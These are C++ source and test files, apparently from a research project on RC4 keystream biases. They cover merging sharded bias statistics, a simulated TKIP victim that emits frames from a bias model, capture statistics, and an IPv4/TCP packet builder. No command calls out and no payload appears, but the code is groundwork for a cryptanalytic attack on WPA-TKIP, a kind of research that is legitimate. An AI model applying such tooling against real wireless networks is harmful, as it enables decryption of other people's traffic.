  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("seed"), std::string::npos);
  EXPECT_NE(status.message().find(manifest.shards[1].path), std::string::npos);
}

TEST(MergeTest, RejectsShardCoveringTheWrongRange) {
  const std::string dir = TempDir("merge-range");
  const GridMeta grid = SmallMeta(GridKind::kSingleByte);
  Manifest manifest = WriteShards(grid, 2, dir);

  // Swap the two shard files: provenance matches but ranges do not.
  std::swap(manifest.shards[0].path, manifest.shards[1].path);
  StoredGrid merged;
  const IoStatus status = MergeShardGrids(manifest, dir + "/x.manifest", &merged);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("manifest assigns"), std::string::npos);
}

TEST(MergeTest, RejectsMissingShardFile) {
  const std::string dir = TempDir("merge-missing");
  const GridMeta grid = SmallMeta(GridKind::kSingleByte);
  const Manifest manifest = WriteShards(grid, 2, dir);
  std::remove(manifest.shards[0].path.c_str());

  StoredGrid merged;
  const IoStatus status = MergeShardGrids(manifest, dir + "/x.manifest", &merged);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find(manifest.shards[0].path), std::string::npos);
}

TEST(MergeTest, RejectsCorruptShard) {
  const std::string dir = TempDir("merge-corrupt");
  const GridMeta grid = SmallMeta(GridKind::kSingleByte);
  const Manifest manifest = WriteShards(grid, 2, dir);
  {
    std::FILE* file = std::fopen(manifest.shards[0].path.c_str(), "r+b");
    ASSERT_NE(file, nullptr);
    std::fseek(file, -3, SEEK_END);
    std::fputc('X', file);
    std::fclose(file);
  }
  StoredGrid merged;
  const IoStatus status = MergeShardGrids(manifest, dir + "/x.manifest", &merged);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("checksum"), std::string::npos);
}

TEST(MergeTest, IncrementalMergeFromBaseMatchesFullMerge) {
  const std::string dir = TempDir("merge-incremental");
  const GridMeta grid = SmallMeta(GridKind::kConsecutive);
  const Manifest manifest = WriteShards(grid, 4, dir);

  // The base is a previous merge covering the first two shards. Once it
  // exists their files can be deleted — the incremental merge must not
  // touch them.
  GridMeta prefix = grid;
  prefix.key_end = manifest.shards[1].key_end;
  StoredGrid base = GenerateStoredGrid(prefix, 2, 0);
  std::remove(manifest.shards[0].path.c_str());
  std::remove(manifest.shards[1].path.c_str());

  MergeOptions options;
  options.base = &base;
  StoredGrid merged;
  MergeOutcome outcome;
  ASSERT_TRUE(
      MergeShardGridsEx(manifest, dir + "/x.manifest", options, &merged, &outcome)
          .ok());
  EXPECT_EQ(outcome.skipped.size(), 2u);
  EXPECT_EQ(outcome.merged.size(), 2u);
  const StoredGrid reference = GenerateStoredGrid(grid, 2, 0);
  EXPECT_TRUE(CheckGridsEqual(reference, merged, "reference", "merged").ok());
}

TEST(MergeTest, RejectsBaseEndingOffAShardBoundary) {
  const std::string dir = TempDir("merge-base-boundary");
  const GridMeta grid = SmallMeta(GridKind::kConsecutive);
  const Manifest manifest = WriteShards(grid, 2, dir);

  GridMeta prefix = grid;
  prefix.key_end = manifest.shards[0].key_end - 1;  // straddles shard 1
  StoredGrid base = GenerateStoredGrid(prefix, 1, 0);
  MergeOptions options;
  options.base = &base;
  StoredGrid merged;
  const IoStatus status =
      MergeShardGridsEx(manifest, dir + "/x.manifest", options, &merged, nullptr);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("boundary"), std::string::npos);
}

TEST(MergeTest, RejectsBaseFromADifferentDataset) {
  const std::string dir = TempDir("merge-base-foreign");
  const GridMeta grid = SmallMeta(GridKind::kConsecutive);
  const Manifest manifest = WriteShards(grid, 2, dir);

  GridMeta foreign = grid;
  foreign.seed = 999;
  foreign.key_end = manifest.shards[0].key_end;
  StoredGrid base = GenerateStoredGrid(foreign, 1, 0);
  MergeOptions options;
  options.base = &base;
  StoredGrid merged;
  const IoStatus status =
      MergeShardGridsEx(manifest, dir + "/x.manifest", options, &merged, nullptr);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("seed"), std::string::npos);
}

TEST(MergeTest, AllowMissingRecordsTheGapInsteadOfFailing) {
  const std::string dir = TempDir("merge-allow-missing");
  const GridMeta grid = SmallMeta(GridKind::kConsecutive);
  const Manifest manifest = WriteShards(grid, 3, dir);
  std::remove(manifest.shards[1].path.c_str());

  MergeOptions options;
  options.allow_missing = true;
  StoredGrid merged;
  MergeOutcome outcome;
  ASSERT_TRUE(
      MergeShardGridsEx(manifest, dir + "/x.manifest", options, &merged, &outcome)
          .ok());
  ASSERT_EQ(outcome.missing.size(), 1u);
  EXPECT_EQ(outcome.missing[0].index, 1u);
  EXPECT_EQ(outcome.missing[0].path, manifest.shards[1].path);
  EXPECT_FALSE(outcome.missing[0].error.empty());
  EXPECT_EQ(outcome.merged.size(), 2u);
  // `samples` honestly reports the merged subset, not the declared range.
  EXPECT_EQ(merged.meta.samples,
            grid.keys() - (manifest.shards[1].key_end -
                           manifest.shards[1].key_begin));
}

TEST(MergeTest, MergedSamplesAreTheShardSum) {
  const std::string dir = TempDir("merge-samples");
  const GridMeta grid = SmallMeta(GridKind::kConsecutive);
  const Manifest manifest = WriteShards(grid, 4, dir);
  StoredGrid merged;
  ASSERT_TRUE(MergeShardGrids(manifest, dir + "/x.manifest", &merged).ok());
  EXPECT_EQ(merged.meta.samples, grid.keys());
}

}  // namespace
}  // namespace rc4b::store
