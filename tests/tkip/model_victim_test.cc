#include <cmath>
#include <gtest/gtest.h>

#include "src/common/rng.h"
#include "src/tkip/injection.h"
#include "src/tkip/tsc_model.h"

namespace rc4b {
namespace {

// A model with a deterministic value per (tsc1, pos): sampling from it must
// return exactly that value, and the emitted ciphertext must be the XOR with
// the plaintext.
TEST(ModelVictimTest, DeltaDistributionsRoundTrip) {
  TkipTscModel model(5, 8);
  for (int tsc1 = 0; tsc1 < 256; ++tsc1) {
    for (size_t pos = 5; pos <= 8; ++pos) {
      std::vector<double> p(256, 1e-12);
      p[(tsc1 + pos) & 0xff] = 1.0;
      model.SetRow(static_cast<uint8_t>(tsc1), pos, p);
    }
  }
  Bytes plaintext(8);
  for (size_t i = 0; i < 8; ++i) {
    plaintext[i] = static_cast<uint8_t>(0x11 * (i + 1));
  }
  ModelVictimSource source(model, plaintext, /*initial_tsc=*/0x300, /*seed=*/1);
  for (int i = 0; i < 600; ++i) {
    const TkipFrame frame = source.NextFrame();
    const uint8_t tsc1 = static_cast<uint8_t>(frame.tsc >> 8);
    for (size_t pos = 5; pos <= 8; ++pos) {
      const uint8_t keystream = static_cast<uint8_t>((tsc1 + pos) & 0xff);
      ASSERT_EQ(frame.ciphertext[pos - 1], plaintext[pos - 1] ^ keystream)
          << "tsc " << frame.tsc << " pos " << pos;
    }
    // Positions outside the model range are zero-filled.
    EXPECT_EQ(frame.ciphertext[0], 0);
  }
}

TEST(ModelVictimTest, TscIncrementsAndClassesCycle) {
  TkipTscModel model(1, 1);
  std::vector<double> uniform(256, 1.0 / 256);
  for (int tsc1 = 0; tsc1 < 256; ++tsc1) {
    model.SetRow(static_cast<uint8_t>(tsc1), 1, uniform);
  }
  Bytes plaintext(1, 0);
  ModelVictimSource source(model, plaintext, 250, 2);
  for (uint64_t expected_tsc = 250; expected_tsc < 600; ++expected_tsc) {
    EXPECT_EQ(source.NextFrame().tsc, expected_tsc);
  }
}

TEST(ModelVictimTest, SampledFrequenciesMatchModel) {
  // One biased cell in one class: capture statistics over many frames must
  // reproduce the bias for that class only.
  TkipTscModel model(3, 3);
  std::vector<double> uniform(256, 1.0 / 256);
  for (int tsc1 = 0; tsc1 < 256; ++tsc1) {
    model.SetRow(static_cast<uint8_t>(tsc1), 3, uniform);
  }
  std::vector<double> biased(256, (1.0 - 0.1) / 255.0);
  biased[42] = 0.1;  // ~25x uniform in class 7
  model.SetRow(7, 3, biased);

  Bytes plaintext(3, 0);  // zero plaintext => ciphertext == keystream
  ModelVictimSource source(model, plaintext, 0, 3);
  TkipCaptureStats stats(3, 3);
  const int frames = 1 << 20;
  for (int i = 0; i < frames; ++i) {
    stats.AddFrame(source.NextFrame());
  }
  const uint64_t class7_frames = frames / 256;
  const double rate42 =
      static_cast<double>(stats.Row(7, 3)[42]) / static_cast<double>(class7_frames);
  EXPECT_NEAR(rate42, 0.1, 6 * std::sqrt(0.1 / class7_frames));
  const double other_rate =
      static_cast<double>(stats.Row(8, 3)[42]) / static_cast<double>(class7_frames);
  EXPECT_NEAR(other_rate, 1.0 / 256, 6 * std::sqrt((1.0 / 256) / class7_frames));
}

TEST(TscModelTest, ShrinkTowardUniform) {
  TkipTscModel model(1, 1);
  std::vector<double> p(256, (1.0 - 0.5) / 255.0);
  p[0] = 0.5;
  for (int tsc1 = 0; tsc1 < 256; ++tsc1) {
    model.SetRow(static_cast<uint8_t>(tsc1), 1, p);
  }
  const double before = model.RmsRelativeDeviation();
  model.ShrinkTowardUniform(0.1);
  const double after = model.RmsRelativeDeviation();
  EXPECT_NEAR(after / before, 0.1, 1e-6);
  // Probabilities remain a distribution.
  double sum = 0.0;
  for (int v = 0; v < 256; ++v) {
    sum += model.Probability(0, 1, static_cast<uint8_t>(v));
  }
  EXPECT_NEAR(sum, 1.0, 1e-9);
}

TEST(TscModelTest, GenerateProducesNormalizedRows) {
  TkipTscModel model(1, 2);
  model.Generate(/*keys_per_class=*/1 << 10, /*seed=*/5, /*workers=*/8);
  for (int tsc1 = 0; tsc1 < 256; tsc1 += 51) {
    for (size_t pos = 1; pos <= 2; ++pos) {
      double sum = 0.0;
      for (int v = 0; v < 256; ++v) {
        sum += model.Probability(static_cast<uint8_t>(tsc1), pos,
                                 static_cast<uint8_t>(v));
      }
      EXPECT_NEAR(sum, 1.0, 1e-9) << "tsc1 " << tsc1 << " pos " << pos;
    }
  }
}

TEST(TscModelTest, Position1ReflectsKeyStructure) {
  // The first keystream byte is strongly TSC1-dependent (K0 = TSC1); two
  // independently seeded models must agree on the *structure* at position 1
  // far beyond noise (the measured inter-seed correlation is ~0.83 at this
  // scale; see DESIGN.md).
  TkipTscModel a(1, 1), b(1, 1);
  a.Generate(1 << 17, 100, 0);
  b.Generate(1 << 17, 200, 0);
  double saa = 0, sbb = 0, sab = 0;
  for (int t = 0; t < 256; ++t) {
    for (int v = 0; v < 256; ++v) {
      const double da =
          a.Probability(static_cast<uint8_t>(t), 1, static_cast<uint8_t>(v)) * 256 - 1;
      const double db =
          b.Probability(static_cast<uint8_t>(t), 1, static_cast<uint8_t>(v)) * 256 - 1;
      saa += da * da;
      sbb += db * db;
      sab += da * db;
    }
  }
  const double corr = sab / std::sqrt(saa * sbb);
  EXPECT_GT(corr, 0.2);
}

}  // namespace
}  // namespace rc4b
