#include "src/net/packet.h"

#include <cassert>

namespace rc4b {

namespace {

// Accumulates 16-bit big-endian words; odd trailing byte is high-padded.
uint32_t ChecksumAccumulate(uint32_t sum, std::span<const uint8_t> data) {
  size_t i = 0;
  for (; i + 1 < data.size(); i += 2) {
    sum += LoadBe16(data.data() + i);
  }
  if (i < data.size()) {
    sum += static_cast<uint32_t>(data[i]) << 8;
  }
  return sum;
}

uint16_t ChecksumFinish(uint32_t sum) {
  while (sum >> 16) {
    sum = (sum & 0xffff) + (sum >> 16);
  }
  return static_cast<uint16_t>(~sum);
}

// 12-byte TCP pseudo-header for the given IPv4 endpoints.
std::array<uint8_t, 12> PseudoHeader(uint32_t source, uint32_t destination,
                                     uint16_t tcp_length) {
  std::array<uint8_t, 12> ph{};
  StoreBe32(source, ph.data());
  StoreBe32(destination, ph.data() + 4);
  ph[8] = 0;
  ph[9] = 6;  // TCP
  StoreBe16(tcp_length, ph.data() + 10);
  return ph;
}

}  // namespace

uint16_t InternetChecksum(std::span<const uint8_t> data) {
  return ChecksumFinish(ChecksumAccumulate(0, data));
}

Bytes LlcSnapHeader::Serialize() const {
  Bytes out(kSize);
  out[0] = 0xaa;  // DSAP: SNAP
  out[1] = 0xaa;  // SSAP: SNAP
  out[2] = 0x03;  // control: UI
  out[3] = out[4] = out[5] = 0x00;  // OUI: encapsulated Ethernet
  StoreBe16(ethertype, out.data() + 6);
  return out;
}

Bytes Ipv4Header::Serialize(size_t payload_length) const {
  Bytes out(kSize, 0);
  out[0] = 0x45;  // version 4, IHL 5
  out[1] = 0x00;  // DSCP/ECN
  const uint16_t length = total_length != 0
                              ? total_length
                              : static_cast<uint16_t>(kSize + payload_length);
  StoreBe16(length, out.data() + 2);
  StoreBe16(identification, out.data() + 4);
  StoreBe16(0x4000, out.data() + 6);  // DF, no fragmentation
  out[8] = ttl;
  out[9] = protocol;
  // checksum at [10..11] computed below
  StoreBe32(source, out.data() + 12);
  StoreBe32(destination, out.data() + 16);
  StoreBe16(InternetChecksum(out), out.data() + 10);
  return out;
}

Bytes TcpHeader::Serialize(const Ipv4Header& ip, std::span<const uint8_t> data) const {
  Bytes out(kSize, 0);
  StoreBe16(source_port, out.data());
  StoreBe16(destination_port, out.data() + 2);
  StoreBe32(sequence, out.data() + 4);
  StoreBe32(acknowledgement, out.data() + 8);
  out[12] = 0x50;  // data offset 5 words
  out[13] = flags;
  StoreBe16(window, out.data() + 14);
  // checksum at [16..17]; urgent pointer stays 0.
  const auto pseudo = PseudoHeader(ip.source, ip.destination,
                                   static_cast<uint16_t>(kSize + data.size()));
  uint32_t sum = ChecksumAccumulate(0, pseudo);
  sum = ChecksumAccumulate(sum, out);
  sum = ChecksumAccumulate(sum, data);
  StoreBe16(ChecksumFinish(sum), out.data() + 16);
  return out;
}

bool VerifyIpv4Checksum(std::span<const uint8_t> header) {
  assert(header.size() >= Ipv4Header::kSize);
  return InternetChecksum(header.subspan(0, Ipv4Header::kSize)) == 0;
}

bool VerifyTcpChecksum(std::span<const uint8_t> ip_header,
                       std::span<const uint8_t> tcp_segment) {
  assert(ip_header.size() >= Ipv4Header::kSize);
  const uint32_t src = LoadBe32(ip_header.data() + 12);
  const uint32_t dst = LoadBe32(ip_header.data() + 16);
  const auto pseudo = PseudoHeader(src, dst, static_cast<uint16_t>(tcp_segment.size()));
  uint32_t sum = ChecksumAccumulate(0, pseudo);
  sum = ChecksumAccumulate(sum, tcp_segment);
  return ChecksumFinish(sum) == 0;
}

Bytes BuildTcpPacket(const LlcSnapHeader& llc, Ipv4Header ip, const TcpHeader& tcp,
                     std::span<const uint8_t> payload) {
  Bytes out = llc.Serialize();
  const size_t tcp_length = TcpHeader::kSize + payload.size();
  ip.total_length = static_cast<uint16_t>(Ipv4Header::kSize + tcp_length);
  const Bytes ip_bytes = ip.Serialize(tcp_length);
  const Bytes tcp_bytes = tcp.Serialize(ip, payload);
  out.insert(out.end(), ip_bytes.begin(), ip_bytes.end());
  out.insert(out.end(), tcp_bytes.begin(), tcp_bytes.end());
  out.insert(out.end(), payload.begin(), payload.end());
  return out;
}

}  // namespace rc4b
