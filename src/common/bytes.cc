#include "src/common/bytes.h"

#include <cassert>
#include <cstdlib>

namespace rc4b {

namespace {

int HexNibble(char c) {
  if (c >= '0' && c <= '9') {
    return c - '0';
  }
  if (c >= 'a' && c <= 'f') {
    return c - 'a' + 10;
  }
  if (c >= 'A' && c <= 'F') {
    return c - 'A' + 10;
  }
  return -1;
}

}  // namespace

std::string ToHex(std::span<const uint8_t> data) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  out.reserve(data.size() * 2);
  for (uint8_t b : data) {
    out.push_back(kDigits[b >> 4]);
    out.push_back(kDigits[b & 0xf]);
  }
  return out;
}

Bytes FromHex(std::string_view hex) {
  assert(hex.size() % 2 == 0);
  Bytes out;
  out.reserve(hex.size() / 2);
  for (size_t i = 0; i + 1 < hex.size(); i += 2) {
    int hi = HexNibble(hex[i]);
    int lo = HexNibble(hex[i + 1]);
    assert(hi >= 0 && lo >= 0);
    out.push_back(static_cast<uint8_t>(hi << 4 | lo));
  }
  return out;
}

Bytes FromString(std::string_view text) {
  return Bytes(text.begin(), text.end());
}

Bytes Xor(std::span<const uint8_t> a, std::span<const uint8_t> b) {
  assert(a.size() == b.size());
  Bytes out(a.size());
  for (size_t i = 0; i < a.size(); ++i) {
    out[i] = static_cast<uint8_t>(a[i] ^ b[i]);
  }
  return out;
}

}  // namespace rc4b
